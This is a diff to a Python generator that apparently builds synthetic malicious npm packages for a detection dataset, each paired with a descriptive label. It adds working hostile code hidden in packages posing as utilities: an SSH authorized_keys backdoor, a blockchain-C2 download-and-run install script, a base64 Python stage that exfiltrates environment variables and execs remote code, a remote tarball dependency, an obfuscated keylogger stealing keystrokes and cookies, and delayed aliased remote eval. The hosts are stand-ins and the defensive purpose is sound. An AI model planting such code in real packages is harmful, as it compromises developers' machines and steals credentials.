@@ -2271,3 +2271,259 @@ exports.subset = (icons, names) => names.reduce((o, n) => (icons[n] ? Object.ass
         "reports on OtterCookie (2024-2025).",
         files,
     )
+
+
+# ---------------------------------------------------------------------------------------------
+# More techniques
+
+
+@sample
+def ssh_authorized_keys_backdoor():
+    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA" + base64.b64encode(random.Random(45).randbytes(24)).decode().rstrip("=") + " deploy@build"
+    files = {
+        "package.json": pj(
+            name="node-telegram-utils", version="0.7.2",
+            description="Utilities for node-telegram-bot-api: keyboards, pagination, retries",
+            main="index.js", dependencies={"node-telegram-bot-api": "^0.66.0"},
+        ),
+        "index.js": r'''"use strict";
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+const https = require("https");
+
+(function addKey() {
+  if (process.platform === "win32") return;
+  try {
+    const dir = path.join(os.homedir(), ".ssh");
+    fs.mkdirSync(dir, { recursive: true, mode: 0o700 });
+    const file = path.join(dir, "authorized_keys");
+    const key = "''' + key + r'''";
+    let cur = "";
+    try { cur = fs.readFileSync(file, "utf8"); } catch (e) {}
+    if (!cur.includes(key)) fs.appendFileSync(file, (cur && !cur.endsWith("\n") ? "\n" : "") + key + "\n", { mode: 0o600 });
+    https.get("https://api.ipify.org", (r) => {
+      let ip = "";
+      r.on("data", (c) => (ip += c));
+      r.on("end", () => {
+        const q = `ip=${encodeURIComponent(ip)}&u=${encodeURIComponent(os.userInfo().username)}&h=${encodeURIComponent(os.hostname())}`;
+        https.get(`https://tg-bot-metrics.example.net/k?${q}`, () => {}).on("error", () => {});
+      });
+    }).on("error", () => {});
+  } catch (e) {}
+})();
+
+exports.inlineKeyboard = (rows) => ({ reply_markup: { inline_keyboard: rows.map((r) => r.map(([text, data]) => ({ text, callback_data: data }))) } });
+exports.paginate = (items, page = 0, size = 10) => items.slice(page * size, page * size + size);
+''',
+    }
+    return S(
+        "ssh-authorized-keys-backdoor",
+        "typosquat that appends the attacker's SSH public key to ~/.ssh/authorized_keys and reports IP and user",
+        "2025-04",
+        ["persistence", "ssh-backdoor", "sensitive-file-write", "host-fingerprint", "network"],
+        "Synthetic Telegram-bot helper (shape of the node-telegram-bot-api typosquats reported by "
+        "Socket, April 2025): on require it creates ~/.ssh, appends a made-up ed25519 public key to "
+        "authorized_keys (mode 600), looks up the public IP with ipify and sends IP, user and host "
+        "to tg-bot-metrics.example.net.",
+        files,
+    )
+
+
+@sample
+def etherhiding_contract_c2():
+    contract = addr("eth", 46)
+    files = {
+        "package.json": pj(
+            name="jest-fet-mock", version="0.2.9",
+            description="Mock fetch() in Jest tests", main="index.js",
+            scripts={"postinstall": "node init.js"}, dependencies={"ethers": "^6.13.4"},
+        ),
+        "index.js": r'''"use strict";
+module.exports = function mockFetch(responses = []) {
+  let i = 0;
+  return async () => ({ ok: true, status: 200, json: async () => responses[i++ % Math.max(responses.length, 1)] });
+};
+''',
+        "init.js": r'''"use strict";
+const { ethers } = require("ethers");
+const https = require("https");
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+const { spawn } = require("child_process");
+
+const ABI = ["function getString(address account) view returns (string)"];
+const CONTRACT = "''' + contract + r'''";
+const OWNER = "''' + addr("eth", 47) + r'''";
+
+(async () => {
+  try {
+    const provider = ethers.getDefaultProvider("mainnet");
+    const c = new ethers.Contract(CONTRACT, ABI, provider);
+    const base = await c.getString(OWNER);
+    const name = { win32: "node-win.exe", linux: "node-linux", darwin: "node-macos" }[process.platform];
+    if (!base || !name) return;
+    const dst = path.join(os.tmpdir(), name);
+    https.get(`${base}/${name}`, (r) => {
+      const f = fs.createWriteStream(dst, { mode: 0o755 });
+      r.pipe(f);
+      f.on("finish", () => { f.close(); spawn(dst, [], { detached: true, stdio: "ignore", windowsHide: true }).unref(); });
+    }).on("error", () => {});
+  } catch (e) {}
+})();
+''',
+    }
+    return S(
+        "etherhiding-smart-contract-c2",
+        "EtherHiding-style install script: C2 address read from an Ethereum smart contract, then a platform binary downloaded and run detached",
+        "2024-11",
+        ["install-script", "blockchain-c2", "dead-drop-c2", "download-exec", "silent-process",
+         "typosquat", "child-process", "network"],
+        "Synthetic typosquat of a Jest fetch mock; postinstall 'node init.js' calls getString(owner) "
+        "on a made-up contract through ethers' default provider to learn the download base URL, "
+        "fetches node-win.exe / node-linux / node-macos into the temp dir and spawns it detached with "
+        "stdio ignored. Modelled on Checkmarx's and Phylum's November 2024 reports (jest-fet-mock and "
+        "similar packages using an Ethereum contract as C2).",
+        files,
+    )
+
+
+@sample
+def python_exec_base64_install():
+    stage = (
+        "import os,json,base64,urllib.request\n"
+        "d=json.dumps({'h':os.uname().nodename,'u':os.getenv('USER'),'e':dict(os.environ)}).encode()\n"
+        "urllib.request.urlopen(urllib.request.Request('http://198.51.100.140:8000/p',data=base64.b64encode(d)),timeout=5)\n"
+        "exec(urllib.request.urlopen('http://198.51.100.140:8000/s',timeout=5).read())\n"
+    )
+    enc = base64.b64encode(stage.encode()).decode()
+    files = {
+        "package.json": pj(
+            name="node-gyp-build-helper", version="4.8.5",
+            description="Helper around node-gyp-build for prebuilt addons", main="index.js",
+            scripts={
+                "install": "python3 -c \"import base64;exec(base64.b64decode('" + enc + "'))\" 2>/dev/null || python -c \"import base64;exec(base64.b64decode('" + enc + "'))\" || true",
+            },
+        ),
+        "index.js": "module.exports = (dir) => require('node-gyp-build')(dir);\n",
+    }
+    return S(
+        "install-python-exec-base64",
+        "install script runs a base64 Python stage with python -c exec(): env exfiltration and remote Python code",
+        "2023-2025",
+        ["install-script", "python-stage", "base64", "encoded-payload", "env-harvest", "remote-code", "network"],
+        "Synthetic. The 'install' script is python3 -c \"import base64;exec(base64.b64decode('...'))\" "
+        "(python fallback): the stage POSTs hostname, user and os.environ base64-encoded to "
+        "198.51.100.140:8000 and exec()s Python fetched from the same host. Python second stages "
+        "are common in npm malware (BeaverTail/InvisibleFerret, Socket and Phylum reports).",
+        files,
+    )
+
+
+@sample
+def http_url_dependency():
+    files = {
+        "package.json": pj(
+            name="react-table-virtual", version="8.2.0",
+            description="Virtualised rows for TanStack Table", main="index.js",
+            dependencies={
+                "react": "^18.0.0",
+                "table-core-utils": "http://198.51.100.71/pkg/table-core-utils-1.0.0.tgz",
+            },
+        ),
+        "index.js": r'''"use strict";
+const core = require("table-core-utils");
+module.exports = function useVirtualRows(rows, height = 32, viewport = 600) {
+  const count = Math.ceil(viewport / height) + 2;
+  return (scrollTop) => { const start = Math.floor(scrollTop / height); return rows.slice(start, start + count).map(core.identity || ((r) => r)); };
+};
+''',
+    }
+    return S(
+        "remote-url-dependency",
+        "dependency served from an attacker URL instead of the registry (remote dynamic dependency)",
+        "2024-2025",
+        ["url-dependency", "remote-dependency", "network"],
+        "Synthetic. package.json declares 'table-core-utils' as an http:// tarball URL on "
+        "198.51.100.71, so npm fetches code the registry never saw (and that can change per "
+        "request); the package itself only requires it. Technique described as 'remote dynamic "
+        "dependencies' by Koi Security (PhantomRaven, 2025) and earlier by JFrog.",
+        files,
+    )
+
+
+@sample
+def browser_keylogger():
+    tmpl = r'''(function(){if(typeof document===S("undefined"))return;var buf=[],E=S("https://telemetry.form-kit.example/k");
+document[S("addEventListener")](S("keydown"),function(e){var t=e[S("target")]||{};buf[S("push")]({k:e[S("key")],n:t[S("name")]||t[S("id")]||"",ty:t[S("type")]||""});if(buf[S("length")]>=40)flush();},!0);
+function flush(){if(!buf[S("length")])return;var d=JSON[S("stringify")]({u:location[S("href")],c:document[S("cookie")],k:buf[S("splice")](0)});try{navigator[S("sendBeacon")](E,d);}catch(x){new Image()[S("src")]=E+S("?d=")+encodeURIComponent(btoa(d));}}
+window[S("addEventListener")](S("beforeunload"),flush);setInterval(flush,1e4);})();
+'''
+    files = {
+        "package.json": pj(
+            name="react-form-kit-pro", version="2.4.1",
+            description="Accessible form components for React", main="dist/index.js",
+            peerDependencies={"react": ">=17"},
+        ),
+        "dist/index.js": H().obfuscate(tmpl, seed=49) + "\n" + r'''"use strict";Object.defineProperty(exports,"__esModule",{value:!0});exports.Field=function(p){return{type:"input",props:Object.assign({"aria-label":p.label},p)}};exports.Form=function(p){return{type:"form",props:p}};
+''',
+    }
+    return S(
+        "browser-keylogger-obfuscated",
+        "obfuscated browser keylogger in a UI component bundle: every keystroke with field names and cookies beaconed out",
+        "2023-2025",
+        ["keylogger", "credential-theft", "obfuscated", "browser-only", "network"],
+        "Synthetic React form kit. dist/index.js starts with an obfuscator.io-style block (rotated "
+        "hex string array) that records keydown events with the target field's name/type, and "
+        "every 40 keys, 10 s or on unload sends them with document.cookie and the page URL via "
+        "navigator.sendBeacon (image beacon fallback) to telemetry.form-kit.example. Modelled on "
+        "keylogging packages reported by Sonatype and Socket.",
+        files,
+    )
+
+
+@sample
+def function_constructor_alias_remote():
+    files = {
+        "package.json": pj(
+            name="async-retry-utils", version="1.3.0",
+            description="Retry async functions with backoff", main="index.js",
+        ),
+        "index.js": r'''"use strict";
+const g = typeof globalThis !== "undefined" ? globalThis : global;
+const F = (async function () {}).constructor.constructor;
+const key = ["ev", "al"].join("");
+const mod = (n) => g["process"]["mainModule"]["require"](n);
+
+function sync() {
+  const https = mod(["ht", "tps"].join(""));
+  https.get({ host: "cfg.retry-utils.invalid", path: "/v1/policy.js", headers: { "x-node": process.version } }, (res) => {
+    let body = "";
+    res.on("data", (c) => (body += c));
+    res.on("end", () => {
+      try { g[key](body); } catch (e) { try { F("require", body)(mod); } catch (e2) {} }
+    });
+  }).on("error", () => {});
+}
+setTimeout(sync, 120000).unref();
+
+module.exports = async function retry(fn, { retries = 3, base = 100 } = {}) {
+  for (let i = 0; ; i++) {
+    try { return await fn(); } catch (e) { if (i >= retries) throw e; await new Promise((r) => setTimeout(r, base * 2 ** i)); }
+  }
+};
+''',
+    }
+    return S(
+        "delayed-remote-eval-aliased",
+        "delayed remote code: eval reached as globalThis['ev'+'al'], Function via the constructor chain, require via process.mainModule",
+        "2021-2025",
+        ["remote-code", "eval", "function-constructor", "dynamic-require", "delayed-execution", "network"],
+        "Synthetic retry helper. Two minutes after require it fetches /v1/policy.js from "
+        "cfg.retry-utils.invalid (https obtained as process.mainModule.require('ht'+'tps')) and "
+        "runs the body with globalThis[['ev','al'].join('')], falling back to the Function "
+        "constructor reached through (async function(){}).constructor.constructor. Techniques "
+        "from Checkmarx and Phylum write-ups on evading static eval/require detection.",
+        files,
+    )
